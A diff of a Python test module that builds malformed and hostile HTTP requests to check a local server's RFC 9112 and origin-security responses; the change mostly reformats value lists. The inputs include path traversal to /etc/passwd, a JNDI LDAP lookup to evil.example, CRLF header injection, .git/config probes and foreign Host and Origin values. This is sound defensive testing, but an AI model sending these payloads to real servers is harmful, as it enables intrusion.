@@ -5,7 +5,21 @@ from __future__ import annotations
 import random
 from collections.abc import Iterable
 
-from tests.hostile.case import CLOSED, Draft, Kind, Outcome, chosen, cut, head, legacy, modern, rendered, token
+from tests.hostile.case import (
+    CLOSED,
+    Draft,
+    Outcome,
+    chosen,
+    cut,
+    head,
+    kinds_of,
+    legacy,
+    modern,
+    picked,
+    rendered,
+    token,
+)
+from tests.tables import listed
 
 HOST = [("Host", "localhost")]
 
@@ -76,8 +90,7 @@ def connect(rng: random.Random) -> Draft:
 
 
 def version_zero(rng: random.Random) -> Draft:
-    rule = "RFC 9112, 9.3: HTTP/1.0 does not persist"
-    return health(rng, rule, {200}, line="GET /health HTTP/1.0", closes=True)
+    return health(rng, "RFC 9112, 9.3: HTTP/1.0 does not persist", {200}, line="GET /health HTTP/1.0", closes=True)
 
 
 def version_minor(rng: random.Random) -> Draft:
@@ -91,34 +104,19 @@ def version_major(rng: random.Random) -> Draft:
 
 
 def version_garbled(rng: random.Random) -> Draft:
-    version = chosen(
-        rng,
-        "HTTP/1.10",
-        "HTTP/1",
-        "http/1.1",
-        "HTTP/01.1",
-        "HTTP/1.1x",
-        "HTTP/1,1",
-        "HTTPS/1.1",
-        "HTTP/+1.1",
-        "1.1",
-        "HTTP/",
+    version = picked(
+        rng, "HTTP/1.10 | HTTP/1 | http/1.1 | HTTP/01.1 | HTTP/1.1x | HTTP/1,1 | HTTPS/1.1 | HTTP/+1.1 | 1.1 | HTTP/"
     )
     rule = "RFC 9112, 2.3 and 3: an invalid request-line is 400"
     return health(rng, rule, {400, 505}, line=f"GET /health {version}", closes=True)
 
 
 def line_spaces(rng: random.Random) -> Draft:
-    line = chosen(
+    line = picked(
         rng,
-        "GET  /health HTTP/1.1",
-        "GET /health  HTTP/1.1",
-        "GET\t/health\tHTTP/1.1",
-        " GET /health HTTP/1.1",
-        "GET /health HTTP/1.1 ",
-        "GET /health HTTP/1.1\t",
-        "GET\x0b/health HTTP/1.1",
-        "GET\r/health HTTP/1.1",
+        "GET  /health HTTP/1.1 | GET /health  HTTP/1.1 | GET\t/health\tHTTP/1.1 | "
+        " GET /health HTTP/1.1 | GET /health HTTP/1.1  | GET /health HTTP/1.1\t | "
+        "GET\x0b/health HTTP/1.1 | GET\r/health HTTP/1.1",
     )
     return health(rng, "RFC 9112, 3: white space may be parsed leniently, else 400", {200, 400}, line=line)
 
@@ -161,18 +159,10 @@ def target_unknown(rng: random.Random) -> Draft:
         "/" + token(rng),
         "/health/" + token(rng),
         "/mcp/" + token(rng),
-        "/healthz",
-        "/mcp%00",
-        "/mcp%2Fx",
-        "/%",
-        "/%zz",
-        "/%ff%fe",
-        "/%C0%AF",
-        "/mcp;a=b",
-        "/.git/config",
-        "/cgi-bin/%%32%65%%32%65/etc/passwd",
-        "/health%20",
-        "/health%0d%0aSet-Cookie:a=b",
+        *listed(
+            "/healthz | /mcp%00 | /mcp%2Fx | /% | /%zz | /%ff%fe | /%C0%AF | /mcp;a=b | /.git/config | "
+            "/cgi-bin/%%32%65%%32%65/etc/passwd | /health%20 | /health%0d%0aSet-Cookie:a=b"
+        ),
         "/" + "%2e%2e/" * rng.randint(1, 50) + "etc/passwd",
         "/${jndi:ldap://evil.example/a}",
         "/" + "a/" * rng.randint(1, 2000),
@@ -221,24 +211,12 @@ def target_absolute_foreign(rng: random.Random) -> Draft:
 
 
 def target_absolute_broken(rng: random.Random) -> Draft:
-    target = chosen(
+    target = picked(
         rng,
-        "http://",
-        "http:///mcp",
-        "http://user:pass@localhost/mcp",
-        "http:/mcp",
-        "http:mcp",
-        "ftp://localhost/mcp",
-        "file:///mcp",
-        "http://local host/mcp",
-        "http://[::1/mcp",
-        "http://localhost:x/mcp",
-        "javascript:alert(1)",
-        "://localhost/mcp",
-        "http://localhost:80:80/mcp",
-        "http://?/mcp",
-        "http://#/mcp",
-        "http://localhost\\@evil.example/mcp",
+        "http:// | http:///mcp | http://user:pass@localhost/mcp | http:/mcp | http:mcp | "
+        "ftp://localhost/mcp | file:///mcp | http://local host/mcp | http://[::1/mcp | "
+        "http://localhost:x/mcp | javascript:alert(1) | ://localhost/mcp | http://localhost:80:80/mcp | "
+        "http://?/mcp | http://#/mcp | http://localhost\\@evil.example/mcp",
     )
     message = modern(rng)
     message.target = target
@@ -256,8 +234,7 @@ def target_other_form(rng: random.Random) -> Draft:
 
 def target_long(rng: random.Random) -> Draft:
     line = f"GET /{'a' * rng.randint(70_000, 200_000)} HTTP/1.1"
-    rule = "RFC 9112, 3: a target longer than any MUST be answered with 414"
-    return health(rng, rule, {414}, line=line, closes=True)
+    return health(rng, "RFC 9112, 3: a target longer than any MUST be answered with 414", {414}, line=line, closes=True)
 
 
 def target_longish(rng: random.Random) -> Draft:
@@ -302,8 +279,7 @@ def folded(rng: random.Random) -> Draft:
     raw = with_line(
         rng, b"X-B: c\r\n" + chosen(rng, b" ", b"\t", b" \t ") + chosen(rng, b"d", b"Host: evil.example", b"")
     )
-    rule = "RFC 9112, 5.2: line folding is refused with 400 or replaced with spaces"
-    return health(rng, rule, {200, 400}, raw=raw)
+    return health(rng, "RFC 9112, 5.2: line folding is refused with 400 or replaced with spaces", {200, 400}, raw=raw)
 
 
 def value_forbidden(rng: random.Random) -> Draft:
@@ -355,8 +331,7 @@ def some_fields(rng: random.Random) -> Draft:
 
 
 def host_missing(rng: random.Random) -> Draft:
-    rule = "RFC 9112, 3.2: no Host is 400"
-    return health(rng, rule, {400}, fields=[("X-A", "b")], closes=True)
+    return health(rng, "RFC 9112, 3.2: no Host is 400", {400}, fields=[("X-A", "b")], closes=True)
 
 
 def host_missing_in_1_0(rng: random.Random) -> Draft:
@@ -364,8 +339,7 @@ def host_missing_in_1_0(rng: random.Random) -> Draft:
     data = b"".join(rendered(rng, message)).replace(b" HTTP/1.1\r\n", b" HTTP/1.0\r\n", 1)
     if b"hunked" in data:
         return host_missing(rng)
-    rule = "S, Security Warning: whose name is not known may not call"
-    return Draft(rule, {400, 403}, cut(rng, data), closes=True)
+    return Draft("S, Security Warning: whose name is not known may not call", {400, 403}, cut(rng, data), closes=True)
 
 
 def host_twice(rng: random.Random) -> Draft:
@@ -375,25 +349,11 @@ def host_twice(rng: random.Random) -> Draft:
 
 
 def host_invalid(rng: random.Random) -> Draft:
-    host = chosen(
+    host = picked(
         rng,
-        "local host",
-        "localhost, localhost",
-        "user@localhost",
-        "localhost/",
-        "localhost:80:80",
-        "localhost:x",
-        "http://localhost",
-        "localhost?",
-        "localhost#",
-        "[::1",
-        "::1",
-        "[::1]x",
-        "localhost\\",
-        "localhost:-1",
-        "loc\xe9lhost",
-        "<localhost>",
-        "localhost%",
+        "local host | localhost, localhost | user@localhost | localhost/ | localhost:80:80 | "
+        "localhost:x | http://localhost | localhost? | localhost# | [::1 | ::1 | [::1]x | localhost\\ | "
+        "localhost:-1 | loc\xe9lhost | <localhost> | localhost%",
     )
     message = modern(rng).set("Host", host)
     rule = "RFC 9112, 3.2: a Host with an invalid value is 400; S, Security Warning: a foreign one is 403"
@@ -403,17 +363,10 @@ def host_invalid(rng: random.Random) -> Draft:
 def host_foreign(rng: random.Random) -> Draft:
     host = chosen(
         rng,
-        "evil.example",
-        "localhost.evil.example",
-        "evil.example:80",
-        "127.0.0.1.nip.io",
-        "0.0.0.0",
-        "2130706433",
-        "127.1",
-        "localhost.localdomain",
-        "[::2]",
-        "",
-        "xlocalhost",
+        *listed(
+            "evil.example | localhost.evil.example | evil.example:80 | 127.0.0.1.nip.io | 0.0.0.0 | "
+            "2130706433 | 127.1 | localhost.localdomain | [::2] |  | xlocalhost"
+        ),
         token(rng) + ".example",
     )
     message = chosen(rng, modern, legacy)(rng).set("Host", host)
@@ -433,14 +386,13 @@ def host_spelt(rng: random.Random) -> Draft:
 def origin_foreign(rng: random.Random) -> Draft:
     origins = chosen(
         rng,
-        ["http://evil.example"],
-        ["https://localhost.evil.example"],
-        ["null"],
-        [""],
-        ["http://localhost:80@evil.example"],
-        ["http://localhost evil"],
-        ["localhost"],
-        ["http://"],
+        *(
+            [each]
+            for each in listed(
+                "http://evil.example | https://localhost.evil.example | null |  | "
+                "http://localhost:80@evil.example | http://localhost evil | localhost | http://"
+            )
+        ),
         ["http://localhost/", "http://evil.example"],
         ["http://localhost", "http://evil.example"],
         ["file://"],
@@ -450,8 +402,7 @@ def origin_foreign(rng: random.Random) -> Draft:
         [f"https://{token(rng)}.example:{rng.randint(1, 65535)}"],
     )
     message = chosen(rng, modern, legacy)(rng).set("Origin", *origins)
-    rule = "S, Security Warning: an invalid Origin MUST be answered with 403"
-    return Draft(rule, {400, 403}, rendered(rng, message))
+    return Draft("S, Security Warning: an invalid Origin MUST be answered with 403", {400, 403}, rendered(rng, message))
 
 
 def origin_own(rng: random.Random) -> Draft:
@@ -503,56 +454,4 @@ def nothing(rng: random.Random) -> Draft:
     )
 
 
-KINDS: dict[str, Kind] = {
-    function.__name__: function
-    for function in (
-        unknown_method,
-        method_elsewhere,
-        method_case,
-        method_no_token,
-        method_long,
-        connect,
-        version_zero,
-        version_minor,
-        version_major,
-        version_garbled,
-        line_spaces,
-        line_short,
-        line_empty_before,
-        target_space,
-        target_bytes,
-        target_unknown,
-        target_same,
-        target_dots,
-        target_fragment,
-        target_absolute,
-        target_absolute_foreign,
-        target_absolute_broken,
-        target_other_form,
-        target_long,
-        target_longish,
-        name_invalid,
-        name_space,
-        name_missing,
-        first_line_folded,
-        folded,
-        value_forbidden,
-        value_control,
-        value_obs_text,
-        bare_line_feeds,
-        many_fields,
-        long_field,
-        some_fields,
-        host_missing,
-        host_missing_in_1_0,
-        host_twice,
-        host_invalid,
-        host_foreign,
-        host_spelt,
-        origin_foreign,
-        origin_own,
-        garbage,
-        endless_line,
-        nothing,
-    )
-}
+KINDS = kinds_of(__name__)
